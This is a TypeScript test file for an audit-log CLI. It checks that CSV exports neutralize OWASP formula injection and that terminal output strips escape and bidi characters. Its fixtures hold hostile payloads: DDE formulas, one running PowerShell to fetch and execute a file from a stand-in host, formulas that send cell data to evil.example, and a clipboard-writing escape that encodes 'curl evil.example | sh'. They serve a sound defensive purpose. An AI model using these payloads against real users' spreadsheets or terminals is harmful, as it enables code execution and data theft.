import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventInput } from '../../src/domain/event.js';
import { type RunningServer, startServer } from '../../src/server/start.js';
import { cliEnv, ingestEvents, tempHome } from '../helpers/cli.js';
import { sampleEvents, startCli, waitFor } from '../helpers/export-fixtures.js';
import { startFaultProxy } from '../helpers/fault-proxy.js';
import { runInProcess } from './in-process-cli.js';

// OWASP "CSV Injection": cells a spreadsheet would run as a formula, DDE included.
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget e.example/s.exe)'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "@cmd|' /C notepad'!'A1'",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://e.example/?v=",A2),"//a")',
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

// Everything a terminal acts on: CSI (clear, colour, cursor), OSC 8 hyperlink, OSC 52 clipboard,
// OSC title, C1 CSI, carriage return, backspace, bidi override and isolates.
const EVIL = [
  'Mallory',
  '\x1b[2J\x1b[H',
  '\x1b[31mred\x1b[0m',
  '\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\',
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  '\x1b]0;pwned\x07',
  '\x9b2J',
  'over\rwritten',
  'back\b\b\bspace',
  '\u202eevil\u202c',
  '\u2066i\u2067s\u2068o\u2069',
].join('-');
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const TSV_UNSAFE = new RegExp(UNSAFE.source.replace('\\u0000-\\u0009', '\\u0000-\\u0008'));

describe('export and terminal safety', () => {
  const home = tempHome();
  const outDir = join(home.dir, 'out');
  let server: RunningServer;
  let env: NodeJS.ProcessEnv;
  let evilId: string;
  const today = new Date().toISOString().slice(0, 10);

  beforeAll(async () => {
    mkdirSync(outDir, { recursive: true });
    server = await startServer({
      // Checkpoints every 50 ms: a backup waits for one that covers the day it writes.
      checkpointIntervalMs: 50,
      dbFile: home.dbFile,
      host: '127.0.0.1',
      port: 0,
      demo: false,
      rateLimitPerMinute: 1_000_000,
    });
    const token = server.bootstrap?.token as string;
    env = {
      AUDIT_CONFIG_DIR: home.configDir,
      AUDIT_SERVER: server.url,
      AUDIT_ORG: 'default',
      AUDIT_TOKEN: token,
    };
    const formulaEvents: EventInput[] = FORMULAS.map((formula) => ({
      action: 'settings.formula_test',
      description: formula,
      actor: { id: formula, name: formula, email: formula, type: 'user' },
      target: { type: 'tunnel', id: formula, name: formula },
      context: { ip_address: formula, user_agent: formula, team_id: formula, team_name: formula },
      metadata: { note: formula },
    }));
    const evil: EventInput = {
      action: 'settings.evil_test',
      description: EVIL,
      actor: { id: 'user_mallory', name: EVIL, email: 'mallory@example.com', type: 'user' },
      target: { type: 'tunnel', id: EVIL, name: EVIL },
      context: { ip_address: '198.51.100.66', user_agent: EVIL, team_id: 'team_evil', team_name: EVIL },
      changes: { role: { old: EVIL, new: 'admin' } },
      metadata: { note: EVIL, nested: { deeper: EVIL } },
    };
    const stored = await ingestEvents(server.url, token, [...formulaEvents, evil]);
    evilId = stored.at(-1)?.id as string;
  });
  afterAll(async () => {
    await server?.close();
    rmSync(home.dir, { recursive: true, force: true });
  });

  describe('CSV formula injection', () => {
    const checkCsv = (text: string) => {
      const rows = parse(text, { columns: true, relax_quotes: false }) as Record<string, string>[];
      const formulaRows = rows.filter((row) => row.action === 'settings.formula_test');
      expect(formulaRows).toHaveLength(FORMULAS.length);
      const columns = Object.keys(formulaRows[0] ?? {}).filter(
        (name) =>
          ![
            'id',
            'timestamp',
            'category',
            'action',
            'changes',
            'metadata',
            'actor_type',
            'target_type',
          ].includes(name),
      );
      expect(columns.length).toBeGreaterThanOrEqual(10);
      const seen = new Set<string>();
      for (const row of formulaRows) {
        for (const column of columns) {
          const cell = row[column] as string;
          // Neutralized: no cell starts a formula...
          expect(cell, column).not.toMatch(DANGEROUS_START);
          // ...and taking the quote away gives the original back.
          const original = cell.startsWith("'") ? cell.slice(1) : cell;
          expect(FORMULAS, `${column}: ${JSON.stringify(cell)}`).toContain(original);
          seen.add(original);
        }
        expect(JSON.parse(row.metadata as string).note).toMatch(DANGEROUS_START);
      }
      expect([...seen].sort()).toEqual([...FORMULAS].sort());
    };

    it('neutralizes every OWASP case in an export file and in -o csv, and parses back', async () => {
      const file = join(outDir, 'formulas.csv');
      const exported = await runInProcess(['export', '--utc', '--from', today, '--to', today, '-o', file], {
        env,
      });
      expect(exported.code, exported.stderr).toBe(0);
      checkCsv(readFileSync(file, 'utf8'));
      const listed = await runInProcess(['logs', '-o', 'csv', '--action', 'settings.formula_test'], { env });
      expect(listed.code, listed.stderr).toBe(0);
      checkCsv(listed.stdout);
      const backup = await runInProcess(
        ['backup', 'run', '--dir', outDir, '--date', today, '--format', 'csv'],
        { env },
      );
      expect(backup.code, backup.stderr).toBe(0);
      checkCsv(readFileSync(join(outDir, `audit-logs-${today}.csv`), 'utf8'));
    });
  });

  describe('interrupted backups', () => {
    it('Ctrl-C and SIGKILL mid-backup leave no final file and no checksum', async () => {
      const dir = join(home.dir, 'backups');
      mkdirSync(dir);
      // Enough events for a second chunk, which the proxy answers slowly with 503.
      const day = '2023-06-01';
      await ingestEvents(
        server.url,
        env.AUDIT_TOKEN as string,
        sampleEvents(1500, `${day}T00:00:00Z`, `${day}T23:59:00Z`),
      );
      const proxy = await startFaultProxy(server.url);
      try {
        // Each stream is cut after its first chunk, and every resume is answered slowly with 503.
        proxy.cutNext(1000, { pathPattern: /\/audit-logs\/export\?(?!.*cursor=)/, afterLines: 2 });
        proxy.failNext(1000, { status: 503, retryAfter: '1', pathPattern: /cursor=/ });
        const interrupted = await runInProcess(['backup', 'run', '--dir', dir, '--date', day], {
          env: { ...env, AUDIT_SERVER: proxy.url },
          interruptAfterMs: 1500,
        });
        expect(interrupted.code, interrupted.stderr).toBe(130);
        expect(interrupted.stderr.trim().split('\n')).toHaveLength(1);
        expect(
          readdirSync(dir).filter((name) => !name.endsWith('.partial') && !name.endsWith('.lock')),
        ).toEqual([]);

        const spawned = startCli(['backup', 'run', '--dir', dir, '--date', day], {
          ...cliEnv(home.configDir),
          ...env,
          AUDIT_SERVER: proxy.url,
        });
        const failedBefore = proxy.requests.filter((request) => request.outcome === 'failed').length;
        await waitFor(
          () => proxy.requests.filter((request) => request.outcome === 'failed').length > failedBefore,
        );
        spawned.child.kill('SIGKILL');
        await spawned.done;
        const names = readdirSync(dir);
        expect(names).not.toContain(`audit-logs-${day}.json`);
        expect(names).not.toContain(`audit-logs-${day}.json.sha256`);
      } finally {
        await proxy.close();
      }
      // A later run completes normally despite the leftovers.
      const again = await runInProcess(['backup', 'run', '--dir', dir, '--date', day], { env });
      expect(again.code, again.stderr).toBe(0);
      expect(existsSync(join(dir, `audit-logs-${day}.json`))).toBe(true);
      expect(JSON.parse(readFileSync(join(dir, `audit-logs-${day}.json`), 'utf8'))).toHaveLength(1500);
    }, 60_000);
  });

  describe('terminal output', () => {
    const expectSafe = (what: string, text: string, pattern = UNSAFE) => {
      // Raw control and bidi characters only: an escaped "\u001b" in JSON text is inert.
      expect(text, what).not.toMatch(pattern);
    };
    const filter = ['--action', 'settings.evil_test'];

    it('strips escapes, CR, backspace and bidi controls from tsv, table, csv on a terminal, and logs show', async () => {
      const views: [string, string[], boolean][] = [
        ['tsv', ['logs', ...filter], false],
        ['table', ['logs', ...filter, '-o', 'table'], false],
        ['table on a terminal', ['logs', ...filter], true],
        ['search', ['search', 'Mallory'], true],
        ['logs show', ['logs', 'show', evilId], false],
        ['logs show on a terminal', ['logs', 'show', evilId], true],
        ['csv on a terminal', ['logs', ...filter, '-o', 'csv'], true],
        ['json on a terminal', ['logs', ...filter, '-o', 'json'], true],
        ['ndjson', ['logs', ...filter, '-o', 'ndjson'], false],
        ['logs show -o json', ['logs', 'show', evilId, '-o', 'json'], true],
      ];
      for (const [what, args, tty] of views) {
        const result = await runInProcess(args, { env, tty });
        expect(result.code, `${what}: ${result.stderr}`).toBe(0);
        expect(result.stdout, what).toContain('Mallory');
        expectSafe(what, result.stdout, what === 'tsv' ? TSV_UNSAFE : UNSAFE);
        expectSafe(`${what} stderr`, result.stderr);
      }
    });

    it('strips them from tail, backlog and live', async () => {
      const running = runInProcess(['tail', '-n', '3', ...filter], {
        env,
        tty: true,
        interruptAfterMs: 1500,
      });
      await new Promise((resolve) => setTimeout(resolve, 600));
      await ingestEvents(server.url, env.AUDIT_TOKEN as string, [
        { action: 'settings.evil_test', actor: { name: `live ${EVIL}` }, description: EVIL },
      ]);
      const result = await running;
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toContain('live Mallory');
      expect(result.stdout.split('Mallory').length).toBeGreaterThanOrEqual(3);
      expectSafe('tail', result.stdout);
      expectSafe('tail stderr', result.stderr);
    });

    it('strips them from error messages that echo input or server answers', async () => {
      const attempts = [
        ['logs', 'show', `log_${EVIL}`],
        ['logs', '--category', EVIL],
        ['logs', '--from', EVIL],
        ['search', `actor:${EVIL}`, '--since', EVIL],
        ['export', '--from', EVIL, '--to', today],
        [`--${EVIL}`],
      ];
      for (const args of attempts) {
        const result = await runInProcess(args, { env, tty: true });
        expect(result.code, args.join(' ')).not.toBe(0);
        expect(result.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
        expectSafe(args.join(' '), result.stderr + result.stdout);
      }
      // Not an error, but the hostile name comes back in the summary on a terminal.
      const gdpr = await runInProcess(['gdpr', 'export', '--user', EVIL], { env, tty: true });
      expect(gdpr.code, gdpr.stderr).toBe(0);
      expectSafe('gdpr export', gdpr.stderr + gdpr.stdout);
    });
  });
});
